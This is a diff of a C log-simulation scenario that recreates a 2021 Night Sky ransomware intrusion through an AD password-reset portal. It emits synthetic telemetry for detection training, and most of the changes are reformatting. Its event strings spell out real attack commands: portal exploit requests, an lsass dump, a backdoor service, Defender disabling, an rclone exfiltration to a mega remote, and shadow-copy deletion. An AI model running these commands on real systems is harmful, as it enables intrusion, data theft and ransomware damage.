@@ -1,5 +1,5 @@
-/* scenario_nightsky.c - incident B, `nightsky2021`: Night Sky ransomware through the AD self-service
- * password-reset portal (Tokyo Computer Service, 2021).
+/* scenario_nightsky.c - incident B, `nightsky2021`: Night Sky ransomware through the AD
+ * self-service password-reset portal (Tokyo Computer Service, 2021).
  *
  * The chain, as logs show it:
  *   1. scanning of the reverse proxy (404s, then the portal's login page);
@@ -14,8 +14,8 @@
  *   7. Defender switched off (registry policy, Set-MpPreference);
  *   8. weeks of night-time staging reads on the file servers by the backdoor account (5145), an
  *      archive, and an upload with rclone;
- *   9. a GPO edited (5136 on its groupPolicyContainer) and a scheduled task plus a batch file written
- *      under SYSVOL (5145, Sysmon 11);
+ *   9. a GPO edited (5136 on its groupPolicyContainer) and a scheduled task plus a batch file
+ * written under SYSVOL (5145, Sysmon 11);
  *  10. on the last day, early morning, every domain machine runs the batch: shadow copies deleted
  *      (vssadmin, wmic), files renamed to *.nightsky (Sysmon 11, 4663 on the file servers) and
  *      NightSkyReadMe.hta dropped in every folder. */
@@ -38,20 +38,22 @@ enum { STREAM = 0x4e534b };
 #define SYSVOL_REL "corp.example\\Policies\\" GPO_GUID "\\Machine"
 #define BATCH "\\\\corp.example\\SYSVOL\\" SYSVOL_REL "\\Scripts\\Startup\\winupdate.bat"
 #define ENCRYPTOR "C:\\ProgramData\\nightsky.exe"
-#define UA_SCAN "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
+#define UA_SCAN                                                                                    \
+    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
 #define UA_EXPLOIT "python-requests/2.26.0"
 #define UA_SHELL "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:95.0) Gecko/20100101 Firefox/95.0"
 
 struct nightsky {
     uint32_t scen;
-    uint32_t svc, admin, backdoor;         /* users */
-    uint32_t a_svc, a_admin, a_backdoor;   /* accounts */
+    uint32_t svc, admin, backdoor;       /* users */
+    uint32_t a_svc, a_admin, a_backdoor; /* accounts */
     uint32_t scan_ip, exploit_ip, exfil_ip;
     uint32_t d_recon, d_exploit, d_gpo, d_boom;
     uint32_t s_recon, s_exploit, s_webshell, s_exec, s_creds, s_dc, s_service, s_account, s_av;
     uint32_t s_stage, s_archive, s_exfil, s_gpo, s_task, s_vss, s_encrypt;
     uint32_t *stage_files; /* customer << 8 | file, the files staged, in order */
     uint32_t nstage, staged;
+    int archived; /* the staged files were archived and uploaded */
     uint64_t wshell_pid_seed;
     uint32_t java_pid;
 };
@@ -149,19 +151,27 @@ static void ns_free(void *state) {
 /* ---- day by day ---- */
 
 static void recon(struct sim_gen *g, struct nightsky *n, kz_time t) {
-    static const char *const probes[] = {
-        "GET / HTTP/1.1", "GET /robots.txt HTTP/1.1", "GET /.env HTTP/1.1",
-        "GET /wp-login.php HTTP/1.1", "GET /owa/auth/logon.aspx HTTP/1.1",
-        "GET /remote/login HTTP/1.1", "GET /showLogin.cc HTTP/1.1",
-        "GET /ServletAPI/accounts/login HTTP/1.1", "GET /RestAPI/LogonCustomization HTTP/1.1",
-        "GET /help/admin-guide/index.html HTTP/1.1", "GET /js/ADSelfService.js HTTP/1.1",
-        "GET /html/adsspInfo.html HTTP/1.1"};
+    static const char *const probes[] = {"GET / HTTP/1.1",
+                                         "GET /robots.txt HTTP/1.1",
+                                         "GET /.env HTTP/1.1",
+                                         "GET /wp-login.php HTTP/1.1",
+                                         "GET /owa/auth/logon.aspx HTTP/1.1",
+                                         "GET /remote/login HTTP/1.1",
+                                         "GET /showLogin.cc HTTP/1.1",
+                                         "GET /ServletAPI/accounts/login HTTP/1.1",
+                                         "GET /RestAPI/LogonCustomization HTTP/1.1",
+                                         "GET /help/admin-guide/index.html HTTP/1.1",
+                                         "GET /js/ADSelfService.js HTTP/1.1",
+                                         "GET /html/adsspInfo.html HTTP/1.1"};
     g->step = n->s_recon;
     for (int round = 0; round < 3; round++)
         for (size_t i = 0; i < sizeof probes / sizeof *probes; i++) {
             t += kz_sim_rng_range(&g->rng, 1, 9) * SEC / 2;
             int found = i >= 6 && i != 8;
-            sim_web(g, t, n->scan_ip, probes[i], i == 8 ? 401 : found ? 200 : 404,
+            sim_web(g, t, n->scan_ip, probes[i],
+                    i == 8  ? 401
+                    : found ? 200
+                            : 404,
                     found ? 10934 : 162, UA_SCAN, NULL);
         }
 }
@@ -172,10 +182,10 @@ static void exploit(struct sim_gen *g, struct nightsky *n, kz_time t) {
     uint32_t portal = e->wk.portal, svc = n->svc;
     g->step = n->s_exploit;
     sim_web(g, t, n->exploit_ip, "GET /showLogin.cc HTTP/1.1", 200, 10934, UA_EXPLOIT, NULL);
-    sim_web(g, t + 3 * SEC, n->exploit_ip,
-            "POST /./RestAPI/LogonCustomization HTTP/1.1", 200, 81, UA_EXPLOIT, NULL);
-    sim_web(g, t + 5 * SEC, n->exploit_ip,
-            "POST /./RestAPI/ImportTrustedCertificate HTTP/1.1", 200, 92, UA_EXPLOIT, NULL);
+    sim_web(g, t + 3 * SEC, n->exploit_ip, "POST /./RestAPI/LogonCustomization HTTP/1.1", 200, 81,
+            UA_EXPLOIT, NULL);
+    sim_web(g, t + 5 * SEC, n->exploit_ip, "POST /./RestAPI/ImportTrustedCertificate HTTP/1.1", 200,
+            92, UA_EXPLOIT, NULL);
     sim_web(g, t + 8 * SEC, n->exploit_ip,
             "POST /./RestAPI/Connection?methodToCall=openSSLTool&action=generateCSR HTTP/1.1", 200,
             124, UA_EXPLOIT, NULL);
@@ -188,14 +198,15 @@ static void exploit(struct sim_gen *g, struct nightsky *n, kz_time t) {
              "-dname \"CN=localhost, OU=ADSSP, O=corp, L=Tokyo, S=Tokyo, C=JP\" -keypass "
              "adventnet -keystore ..\\jre\\bin\\SelfService.keystore -storepass adventnet "
              "-providerclass Si -providerpath \"" ADSSP "\\bin\"",
-             n->java_pid, JAVA, "\"" JAVA "\" -Dcatalina.home=\"" ADSSP "\" -server -Xmx512m "
-                                 "org.apache.catalina.startup.Bootstrap start",
+             n->java_pid, JAVA,
+             "\"" JAVA "\" -Dcatalina.home=\"" ADSSP "\" -server -Xmx512m "
+             "org.apache.catalina.startup.Bootstrap start",
              2);
     /* The web shell. */
     g->step = n->s_webshell;
     sim_file_create(g, portal, t + 12 * SEC, svc, n->java_pid, JAVA, WEBSHELL);
-    sim_web(g, t + 40 * SEC, n->exploit_ip, "GET /help/admin-guide/reports.jsp HTTP/1.1", 200,
-            512, UA_SHELL, NULL);
+    sim_web(g, t + 40 * SEC, n->exploit_ip, "GET /help/admin-guide/reports.jsp HTTP/1.1", 200, 512,
+            UA_SHELL, NULL);
 }
 
 static uint32_t shell_cmd(struct sim_gen *g, struct nightsky *n, kz_time t, const char *cmd) {
@@ -216,10 +227,9 @@ static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
     const struct kz_sim_estate *e = d->e;
     uint32_t portal = e->wk.portal, dc = e->wk.dc[0];
     g->step = n->s_exec;
-    static const char *const recon_cmds[] = {"whoami /all", "ipconfig /all",
-                                             "nltest /dclist:corp.example",
-                                             "net group \"Domain Admins\" /domain",
-                                             "tasklist /v | findstr lsass"};
+    static const char *const recon_cmds[] = {
+        "whoami /all", "ipconfig /all", "nltest /dclist:corp.example",
+        "net group \"Domain Admins\" /domain", "tasklist /v | findstr lsass"};
     for (int i = 0; i < 5; i++) {
         t += kz_sim_rng_range(&g->rng, 20, 90) * SEC;
         const char *c = recon_cmds[i];
@@ -238,9 +248,9 @@ static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
                                 "C:\\ProgramData\\lsass.dmp full",
                                 lsass);
     uint32_t cmd = shell_cmd(g, n, t, dump);
-    uint32_t rd = sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1,
-                           "C:\\Windows\\System32\\rundll32.exe", dump, cmd, CMD,
-                           sim_strf(d, "cmd.exe /c %s", dump), 2);
+    uint32_t rd =
+        sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\Windows\\System32\\rundll32.exe", dump,
+                 cmd, CMD, sim_strf(d, "cmd.exe /c %s", dump), 2);
     struct sim_ev *x = sim_ev_new(g, K_S10, portal, t + 2 * SEC);
     x->u = n->svc, x->pid = rd, x->s1 = "C:\\Windows\\System32\\rundll32.exe", x->ppid = lsass;
     x->s2 = "C:\\Windows\\system32\\lsass.exe", x->n = 0x1fffff;
@@ -257,12 +267,11 @@ static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
     struct sim_ev *e48 = sim_ev_new(g, K_4648, portal, t - SEC);
     e48->u = n->svc, e48->lid = 0x7a3e1, e48->u2 = n->admin, e48->s1 = "DC01.corp.example";
     e48->s2 = "C:\\Windows\\System32\\wbem\\WMIC.exe", e48->pid = c2;
-    uint64_t lid = sim_logon(g, dc, t, n->admin, 3, e->hosts[portal].ip, "PWRESET01",
-                             SL_NTLM | SL_PRIV);
+    uint64_t lid =
+        sim_logon(g, dc, t, n->admin, 3, e->hosts[portal].ip, "PWRESET01", SL_NTLM | SL_PRIV);
     uint32_t wmi = 2400 + 4 * (dc % 50);
-    sim_proc(g, dc, t + 2 * SEC, n->admin, lid, CMD,
-             "cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt", wmi,
-             "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+    sim_proc(g, dc, t + 2 * SEC, n->admin, lid, CMD, "cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt",
+             wmi, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
              "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 2);
 
     /* Backdoor service on the DC. */
@@ -270,8 +279,9 @@ static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
     t += 8 * MIN;
     const char *svcbin = "C:\\Windows\\Temp\\svchosts.exe";
     sim_file_create(g, dc, t - MIN, n->admin, 4, "System", svcbin);
-    const char *sc = "sc.exe \\\\DC01 create WinSysMon binPath= \"C:\\Windows\\Temp\\svchosts.exe\" "
-                     "start= auto DisplayName= \"Windows System Monitor\"";
+    const char *sc =
+        "sc.exe \\\\DC01 create WinSysMon binPath= \"C:\\Windows\\Temp\\svchosts.exe\" "
+        "start= auto DisplayName= \"Windows System Monitor\"";
     uint32_t c3 = shell_cmd(g, n, t - 2 * SEC, sc);
     sim_proc(g, portal, t - SEC, n->svc, 0x7a3e1, "C:\\Windows\\System32\\sc.exe", sc, c3, CMD,
              sim_strf(d, "cmd.exe /c %s", sc), 2);
@@ -312,18 +322,18 @@ static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
         kz_time th = t + (kz_time)i * 2 * MIN;
         uint32_t parent = i ? 2400 + 4 * (dc % 50) : shell_cmd(g, n, th - SEC, reg);
         const char *pimg = i ? "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe" : CMD;
-        uint32_t rp = sim_proc(g, h, th, u, l, "C:\\Windows\\System32\\reg.exe", reg, parent,
-                               pimg, i ? "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
-                                         "-Embedding"
-                                       : sim_strf(d, "cmd.exe /c %s", reg),
+        uint32_t rp = sim_proc(g, h, th, u, l, "C:\\Windows\\System32\\reg.exe", reg, parent, pimg,
+                               i ? "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
+                                   "-Embedding"
+                                 : sim_strf(d, "cmd.exe /c %s", reg),
                                2);
         struct sim_ev *r13 = sim_ev_new(g, K_S13, h, th + SEC / 10);
         r13->u = u, r13->pid = rp, r13->s1 = "C:\\Windows\\System32\\reg.exe";
         r13->s2 = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware";
         r13->s3 = "DWORD (0x00000001)";
         uint32_t pp = sim_proc(g, h, th + 20 * SEC, u, l,
-                               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                               ps, parent, pimg, "cmd.exe", 2);
+                               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ps,
+                               parent, pimg, "cmd.exe", 2);
         struct sim_ev *p = sim_ev_new(g, K_4104W, h, th + 21 * SEC);
         p->u = u, p->pid = pp, p->s1 = "Set-MpPreference -DisableRealtimeMonitoring $true";
     }
@@ -375,8 +385,8 @@ static void archive_and_exfil(struct sim_gen *g, struct nightsky *n, kz_time t) 
     const char *rc = "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\Microsoft\\Crypto mega:bk "
                      "--config C:\\ProgramData\\rc.conf -q --ignore-existing --transfers 4";
     uint32_t c2 = shell_cmd(g, n, t, rc);
-    uint32_t rp = sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\ProgramData\\rclone.exe",
-                           rc, c2, CMD, sim_strf(d, "cmd.exe /c %s", rc), 2);
+    uint32_t rp = sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\ProgramData\\rclone.exe", rc,
+                           c2, CMD, sim_strf(d, "cmd.exe /c %s", rc), 2);
     for (int i = 0; i < 4; i++) {
         struct sim_ev *x = sim_ev_new(g, K_S3, portal, t + 3 * SEC + (kz_time)i * SEC);
         x->u = n->svc, x->pid = rp, x->s1 = "C:\\ProgramData\\rclone.exe";
@@ -389,24 +399,23 @@ static void gpo_edit(struct sim_gen *g, struct nightsky *n, kz_time t) {
     const struct kz_sim_estate *e = d->e;
     uint32_t dc = e->wk.dc[0], portal = e->wk.portal;
     g->step = n->s_gpo;
-    uint64_t lid = sim_logon(g, dc, t, n->backdoor, 3, e->hosts[portal].ip, "PWRESET01",
-                             SL_NTLM | SL_PRIV);
+    uint64_t lid =
+        sim_logon(g, dc, t, n->backdoor, 3, e->hosts[portal].ip, "PWRESET01", SL_NTLM | SL_PRIV);
     uint32_t corr = (uint32_t)(kz_sim_rng_next(&g->rng) & 0xffffff);
     struct {
         const char *attr, *val;
         int op;
-    } mods[] = {
-        {"gPCMachineExtensionNames",
-         "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
-         "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
-         1},
-        {"gPCMachineExtensionNames",
-         "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
-         "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
-         "[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B6664F-4972-11D1-A7CA-0000F87571E3}]",
-         0},
-        {"versionNumber", "131074", 1},
-        {"versionNumber", "196611", 0}};
+    } mods[] = {{"gPCMachineExtensionNames",
+                 "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
+                 "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
+                 1},
+                {"gPCMachineExtensionNames",
+                 "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
+                 "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
+                 "[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B6664F-4972-11D1-A7CA-0000F87571E3}]",
+                 0},
+                {"versionNumber", "131074", 1},
+                {"versionNumber", "196611", 0}};
     for (int i = 0; i < 4; i++) {
         struct sim_ev *x = sim_ev_new(g, K_5136, dc, t + 30 * SEC);
         x->u = n->backdoor, x->lid = lid, x->s1 = GPO_DN, x->s2 = mods[i].attr;
@@ -419,9 +428,9 @@ static void gpo_edit(struct sim_gen *g, struct nightsky *n, kz_time t) {
         kz_time tf = t + MIN + (kz_time)i * 10 * SEC;
         sim_share_file(g, dc, tf, n->backdoor, lid, e->hosts[portal].ip, "\\\\*\\SYSVOL",
                        "\\??\\C:\\Windows\\SYSVOL\\sysvol", files[i], 2);
-        sim_file_create(g, dc, tf, n->backdoor, 4, "System",
-                        sim_strf(d, "C:\\Windows\\SYSVOL\\domain\\%s",
-                                 files[i] + sizeof "corp.example"));
+        sim_file_create(
+            g, dc, tf, n->backdoor, 4, "System",
+            sim_strf(d, "C:\\Windows\\SYSVOL\\domain\\%s", files[i] + sizeof "corp.example"));
     }
     sim_logoff(g, dc, t + 5 * MIN, n->backdoor, lid, 3);
 }
@@ -430,7 +439,7 @@ static void gpo_edit(struct sim_gen *g, struct nightsky *n, kz_time t) {
 static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
     struct sim_day *d = g->d;
     const struct kz_sim_estate *e = d->e;
-    static const char *const doc_names[] = {"見積書.xlsx", "report.docx", "budget.xlsx",
+    static const char *const doc_names[] = {"見積書.xlsx",  "report.docx", "budget.xlsx",
                                             "minutes.docx", "drawing.pdf", "photo.jpg"};
     for (uint32_t h = 0; h < e->nhosts; h++) {
         const struct kz_sim_host *hh = &e->hosts[h];
@@ -439,16 +448,17 @@ static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
         g->step = n->s_task;
         struct sim_ev *task = sim_ev_new(g, K_4698, h, t);
         task->s1 = "\\WinUpdate";
-        task->s2 = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.3\" "
-                   "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Principals>"
-                   "<Principal id=\"Author\"><UserId>NT AUTHORITY\\System</UserId><RunLevel>"
-                   "HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"Author\">"
-                   "<Exec><Command>cmd.exe</Command><Arguments>/c " BATCH "</Arguments></Exec>"
-                   "</Actions></Task>";
-        uint32_t tk = sim_proc(g, h, t + 20 * SEC, KZ_SIM_NONE, 0x3e7,
-                               "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", 1200,
-                               "C:\\Windows\\System32\\svchost.exe",
-                               "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 3);
+        task->s2 =
+            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.3\" "
+            "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Principals>"
+            "<Principal id=\"Author\"><UserId>NT AUTHORITY\\System</UserId><RunLevel>"
+            "HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"Author\">"
+            "<Exec><Command>cmd.exe</Command><Arguments>/c " BATCH "</Arguments></Exec>"
+            "</Actions></Task>";
+        uint32_t tk =
+            sim_proc(g, h, t + 20 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\taskhostw.exe",
+                     "taskhostw.exe", 1200, "C:\\Windows\\System32\\svchost.exe",
+                     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 3);
         uint32_t bat = sim_proc(g, h, t + 21 * SEC, KZ_SIM_NONE, 0x3e7, CMD, "cmd.exe /c " BATCH,
                                 tk, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", 3);
         sim_proc(g, h, t + 22 * SEC, KZ_SIM_NONE, 0x3e7, CMD,
@@ -457,17 +467,16 @@ static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
                  bat, CMD, "cmd.exe /c " BATCH, 3);
         sim_file_create(g, h, t + 23 * SEC, KZ_SIM_NONE, bat, CMD, ENCRYPTOR);
         g->step = n->s_vss;
-        uint32_t vs = sim_proc(g, h, t + 25 * SEC, KZ_SIM_NONE, 0x3e7,
-                               "C:\\Windows\\System32\\vssadmin.exe",
-                               "vssadmin delete shadows /all /quiet", bat, CMD,
-                               "cmd.exe /c " BATCH, 3);
+        uint32_t vs =
+            sim_proc(g, h, t + 25 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\vssadmin.exe",
+                     "vssadmin delete shadows /all /quiet", bat, CMD, "cmd.exe /c " BATCH, 3);
         (void)vs;
         sim_proc(g, h, t + 27 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                  "wmic shadowcopy delete", bat, CMD, "cmd.exe /c " BATCH, 3);
         g->step = n->s_encrypt;
-        uint32_t enc = sim_proc(g, h, t + 30 * SEC, KZ_SIM_NONE, 0x3e7, ENCRYPTOR,
-                                ENCRYPTOR " -p \"C:\\\\\" -nolog", bat, CMD, "cmd.exe /c " BATCH,
-                                3);
+        uint32_t enc =
+            sim_proc(g, h, t + 30 * SEC, KZ_SIM_NONE, 0x3e7, ENCRYPTOR,
+                     ENCRYPTOR " -p \"C:\\\\\" -nolog", bat, CMD, "cmd.exe /c " BATCH, 3);
         kz_time tf = t + 31 * SEC;
         if (hh->role == KZ_SIM_FILESERVER) {
             uint32_t fi = h - e->wk.fs_first;
@@ -486,9 +495,9 @@ static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
                     y->pid = enc, y->n = 0x10000;
                 }
                 const char *folder = e->customers[c].folder;
-                sim_file_create(g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
-                                sim_strf(d, "D:\\Shares\\projects\\%s\\NightSkyReadMe.hta",
-                                         folder));
+                sim_file_create(
+                    g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
+                    sim_strf(d, "D:\\Shares\\projects\\%s\\NightSkyReadMe.hta", folder));
             }
         } else {
             const char *who = hh->owner != KZ_SIM_NONE ? e->users[hh->owner].sam : "Public";
@@ -500,9 +509,9 @@ static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
                                     sim_strf(d, "C:\\Users\\%s\\%s\\%s.nightsky", who, dirs[dd],
                                              doc_names[(k + dd + h) % 6]));
                 }
-                sim_file_create(g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
-                                sim_strf(d, "C:\\Users\\%s\\%s\\NightSkyReadMe.hta", who,
-                                         dirs[dd]));
+                sim_file_create(
+                    g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
+                    sim_strf(d, "C:\\Users\\%s\\%s\\NightSkyReadMe.hta", who, dirs[dd]));
             }
         }
     }
@@ -510,7 +519,6 @@ static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
 
 static void ns_day(struct sim_day *d, void *state) {
     struct nightsky *n = state;
-    struct sim *s = d->s;
     struct sim_gen g;
     sim_gen_init(&g, d, STREAM + 1);
     kz_time t0 = d->t0;
@@ -529,9 +537,10 @@ static void ns_day(struct sim_day *d, void *state) {
         uint32_t per = nights ? (n->nstage + nights - 1) / nights : n->nstage;
         kz_time t = nights ? t0 + HOUR + kz_sim_rng_below(&g.rng, 3600) * SEC : t0 + 10 * HOUR;
         stage_night(&g, n, t, per);
-        if (n->staged >= n->nstage && !s->steps[n->s_archive - 1].nrecs &&
-            !s->steps[n->s_archive - 1].start)
+        if (n->staged >= n->nstage && !n->archived) {
+            n->archived = 1;
             archive_and_exfil(&g, n, t + 3 * HOUR);
+        }
     }
     if (d->day == n->d_gpo) gpo_edit(&g, n, t0 + 21 * HOUR);
     if (d->day == n->d_boom) {
